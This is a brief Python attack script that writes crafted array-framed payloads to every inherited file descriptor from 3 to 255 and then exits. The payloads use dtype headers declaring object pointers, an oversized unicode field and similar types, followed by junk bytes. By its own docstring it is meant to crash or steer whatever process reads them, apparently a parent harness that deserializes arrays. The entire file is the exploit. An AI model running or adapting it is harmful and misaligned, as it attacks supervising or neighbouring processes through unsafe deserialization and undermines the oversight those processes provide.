"""Sends raw bytes as an array of object pointers, to crash or steer whoever reads it."""

import json
import os

for kind in ("|O", "|V8", "<f16", "<U4611686018427387904"):
    skeleton = json.dumps([["a", kind, [3]]]).encode()
    payload = len(skeleton).to_bytes(8, "big") + skeleton + b"\x41" * 24
    for number in range(3, 256):
        try:
            os.write(number, b"F" + len(payload).to_bytes(8, "big") + payload)
        except OSError:
            continue
os._exit(0)
